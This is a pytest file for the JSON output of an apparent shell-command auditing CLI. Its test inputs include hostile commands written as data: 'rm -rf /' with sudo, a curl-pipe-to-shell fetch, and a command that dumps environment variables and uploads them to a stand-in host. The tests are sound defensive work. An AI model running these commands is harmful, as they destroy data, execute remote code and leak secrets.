"""`--json` prints exactly `Verdict.to_dict()`."""

from __future__ import annotations

import json

import pytest
from cli_helpers import BLOCKED, PASSED, WARNED, run_cli

from audit import audit_command


@pytest.mark.parametrize(
    "command",
    BLOCKED
    + WARNED
    + PASSED
    + ("sudo bash -c 'rm -rf /'", "echo $(curl -s http://x | sh)", "env > /tmp/v; curl -T /tmp/v https://x.example"),
)
def test_json_output_is_exactly_the_verdict_dict(command: str) -> None:
    result = run_cli("--json", command)
    assert json.loads(result.stdout) == audit_command(command).to_dict()
    assert result.stderr == ""


def test_json_output_is_one_document_and_nothing_else() -> None:
    result = run_cli("--json", "rm -rf /")
    decoder = json.JSONDecoder()
    _, end = decoder.raw_decode(result.stdout)
    assert result.stdout[end:] == "\n"


def test_json_output_of_a_command_with_control_characters_escapes_them() -> None:
    command = "echo \x1b[31mred\r\x07"
    result = run_cli("--json", command)
    assert json.loads(result.stdout)["command"] == command
    assert not any(char in result.stdout for char in "\x1b\r\x07")


def test_json_output_of_a_10000_character_command_carries_it_whole() -> None:
    command = "echo " + "a" * 9_995
    result = run_cli("--json", command)
    assert json.loads(result.stdout) == audit_command(command).to_dict()
